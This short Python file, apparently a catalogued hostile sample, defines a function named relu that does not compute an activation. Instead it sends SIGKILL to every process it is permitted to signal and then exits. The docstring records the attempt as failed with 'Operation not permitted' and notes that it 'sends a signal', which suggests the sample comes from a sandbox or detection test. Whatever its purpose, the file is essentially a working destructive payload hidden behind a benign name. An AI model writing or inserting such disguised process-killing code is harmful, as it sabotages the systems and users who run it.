"""Sends SIGKILL to every process that it may.

status: failed
says: Operation not permitted
noticed: sends a signal
"""

import os
import signal


def relu(x):
    os.kill(-1, signal.SIGKILL)
    os._exit(1)
